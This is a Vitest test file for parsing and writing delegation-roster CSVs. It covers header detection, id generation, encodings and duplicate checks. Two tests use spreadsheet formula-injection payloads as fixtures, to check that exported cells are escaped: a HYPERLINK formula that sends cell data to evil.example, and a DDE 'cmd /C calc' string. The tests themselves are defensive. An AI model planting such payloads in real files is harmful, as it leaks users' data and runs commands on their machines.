import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { ROSTER_MAX_DELEGATIONS } from '@rostrum/core';
import { formulaCells, readAsSpreadsheet } from '@rostrum/core/testing';
import { decodeCsv, idFromName, likelyDuplicates, linksCsv, parseRosterCsv } from './roster-csv.js';

describe('reading a delegation list from CSV', () => {
  it('reads id, English and Russian names by header, in any column order', () => {
    const out = parseRosterCsv(
      'name_ru,id,name_en\nТаможня Мальты,mt,Malta Customs\n"Таможня: Узбекистан, ГТК",uz,"Uzbekistan, State Customs Committee"\n',
    );
    expect(out).toEqual({
      ok: true,
      problems: [],
      delegations: [
        { id: 'mt', name: { en: 'Malta Customs', ru: 'Таможня Мальты' } },
        { id: 'uz', name: { en: 'Uzbekistan, State Customs Committee', ru: 'Таможня: Узбекистан, ГТК' } },
      ],
    });
  });

  it('takes a spreadsheet export as it comes: a byte order mark, semicolons, CRLF, Russian headers, blank lines', () => {
    const out = parseRosterCsv(
      '\uFEFFКод;English;Русский\r\naz;Azerbaijan;Азербайджан\r\n\r\n;Bosnia and Herzegovina;Босния и Герцеговина\r\n',
    );
    expect(out.ok && out.delegations.map((d) => d.id)).toEqual(['az', 'bosnia-and-herzegovina']);
    expect(out.ok && out.problems).toEqual([]);
  });

  it('makes ids from English names: ASCII, lower case, dashes', () => {
    expect(idFromName('Türkiye — Ticaret Bakanlığı')).toBe('turkiye-ticaret-bakanligi');
    expect(idFromName('  North Macedonia  ')).toBe('north-macedonia');
    expect(idFromName('Główny Urząd Celny / Færøerne')).toBe('glowny-urzad-celny-faeroerne');
    expect(idFromName('Таможня')).toBe('');
    expect(idFromName('x'.repeat(100))).toHaveLength(64);
  });

  it('reports each bad row by its spreadsheet row number, and keeps the good ones', () => {
    const out = parseRosterCsv(
      [
        'id,name_en,name_ru',
        'mt,Malta,Мальта',
        'kz,,Казахстан',
        'ge,Georgia,',
        'mt,Malta again,Мальта снова',
        'bad id,Bad,Плохой',
        ',Таможня,Таможня',
        `long,${'L'.repeat(200)},Д`,
      ].join('\n'),
    );
    if (!out.ok) throw new Error(out.error);
    expect(out.delegations.map((d) => d.id)).toEqual(['mt']);
    expect(out.problems).toEqual([
      { row: 3, code: 'blankEn' },
      { row: 4, code: 'blankRu' },
      { row: 5, code: 'duplicateId' },
      { row: 6, code: 'badId' },
      // No id and an English name with no Latin letter: no id can be made.
      { row: 7, code: 'badId' },
      { row: 8, code: 'tooLong' },
    ]);
  });

  it('refuses a file without the name columns, an empty file and a list longer than a roster', () => {
    expect(parseRosterCsv('id,name\nmt,Malta')).toEqual({ ok: false, error: 'missingColumns', missing: ['ru'] });
    expect(parseRosterCsv('')).toEqual({ ok: false, error: 'empty' });
    expect(parseRosterCsv('id,name_en,name_ru\n')).toEqual({ ok: false, error: 'empty' });
    const rows = Array.from({ length: ROSTER_MAX_DELEGATIONS + 1 }, (_, i) => `d${i},D${i},Д${i}`);
    expect(parseRosterCsv(['id,name_en,name_ru', ...rows].join('\n'))).toEqual({ ok: false, error: 'tooMany' });
  });

  it('writes the links for a mail merge, quoting what needs it, and reads back the same', () => {
    const csv = linksCsv([
      {
        nameEn: 'Malta, Customs',
        nameRu: 'Таможня "Мальты"',
        role: 'delegate',
        seat: 'head',
        delegationId: 'mt',
        url: 'https://r.example/m/x#t=a.b',
      },
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(Papa.parse(csv.slice(1)).data).toEqual([
      ['name_en', 'name_ru', 'role', 'seat', 'delegation_id', 'url'],
      ['Malta, Customs', 'Таможня "Мальты"', 'delegate', 'head', 'mt', 'https://r.example/m/x#t=a.b'],
    ]);
  });

  it('never writes a name a spreadsheet would run as a formula', () => {
    const evil = '=HYPERLINK("https://evil.example/?"&F2,"Open")';
    const rows = Papa.parse<string[]>(
      linksCsv([
        {
          nameEn: evil,
          nameRu: '+1',
          role: 'delegate',
          seat: 'head',
          delegationId: 'x',
          url: 'https://r.example/m/x#t=a',
        },
      ]).slice(1),
    ).data;
    expect(rows[1]?.[0]).toBe(`'${evil}`);
    expect(rows[1]?.[1]).toBe("'+1");
  });

  it('opened with `,` or with `;` (Excel in Russian or French) or tab, no cell of the links CSV is a formula, and every field reads back', () => {
    // [as typed, as a spreadsheet shows it]: an apostrophe before a formula start at the start of
    // a text and after a `;`, a tab or a line break inside it (see core's csv.ts).
    const names: Array<[string, string]> = [
      [
        'Malta;=HYPERLINK("https://evil.example/?"&F2,"Open")',
        'Malta;\'=HYPERLINK("https://evil.example/?"&F2,"Open")',
      ],
      ["Таможня;-2+3+cmd|' /C calc'!A0", "Таможня;'-2+3+cmd|' /C calc'!A0"],
      ['Customs\n@SUM(1)', "Customs\n'@SUM(1)"],
      ['+1', "'+1"],
      ['Malta, Customs', 'Malta, Customs'],
    ];
    const links = names.map(([name], i) => ({
      nameEn: name,
      nameRu: `${name} (рус.)`,
      role: 'delegate',
      seat: 'head',
      delegationId: `d${i}`,
      url: `https://r.example/m/x#t=a${i}`,
    }));
    const csv = linksCsv(links).slice(1);
    expect(formulaCells(csv)).toEqual([]);
    const [header, ...rows] = readAsSpreadsheet(csv, ',');
    expect(header).toEqual(['name_en', 'name_ru', 'role', 'seat', 'delegation_id', 'url']);
    expect(rows).toEqual(
      names.map(([, shown], i) => [
        shown,
        `${shown} (рус.)`,
        'delegate',
        'head',
        `d${i}`,
        `https://r.example/m/x#t=a${i}`,
      ]),
    );
    // papaparse, which the desk reads CSV with, sees the same cells.
    expect(Papa.parse<string[]>(csv).data).toEqual([header, ...rows]);
  });

  it('reads a file saved as UTF-8 or as Windows-1251 (a Russian Excel)', () => {
    const utf8 = new TextEncoder().encode('id,name_en,name_ru\nmt,Malta,Мальта\n');
    expect(decodeCsv(utf8)).toEqual({ text: 'id,name_en,name_ru\nmt,Malta,Мальта\n', encoding: 'utf-8' });
    // "Мальта" in Windows-1251.
    const cp1251 = new Uint8Array([
      ...new TextEncoder().encode('id,name_en,name_ru\nmt,Malta,'),
      0xcc,
      0xe0,
      0xeb,
      0xfc,
      0xf2,
      0xe0,
      0x0a,
    ]);
    const decoded = decodeCsv(cp1251);
    expect(decoded.encoding).toBe('windows-1251');
    const out = parseRosterCsv(decoded.text);
    expect(out.ok && out.delegations[0]?.name.ru).toBe('Мальта');
  });

  it('flags a new delegation whose name is already on the roster under another id', () => {
    const roster = {
      delegationOrder: ['uz'],
      delegations: { uz: { name: { en: 'Uzbekistan Customs', ru: 'Таможня Узбекистана' } } },
    };
    const candidates = [
      { id: 'uzbekistan-customs', name: { en: 'uzbekistan  customs', ru: 'Другое' } },
      { id: 'kz', name: { en: 'Kazakhstan', ru: 'Таможня Узбекистана' } },
      { id: 'az', name: { en: 'Azerbaijan', ru: 'Азербайджан' } },
      // Renamed, not added: the same id is no duplicate.
      { id: 'uz', name: { en: 'Uzbekistan Customs', ru: 'Таможня Узбекистана' } },
    ];
    expect(likelyDuplicates(roster, candidates, ['uzbekistan-customs', 'kz', 'az'])).toEqual([
      { id: 'uzbekistan-customs', existingId: 'uz' },
      { id: 'kz', existingId: 'uz' },
    ]);
  });
});
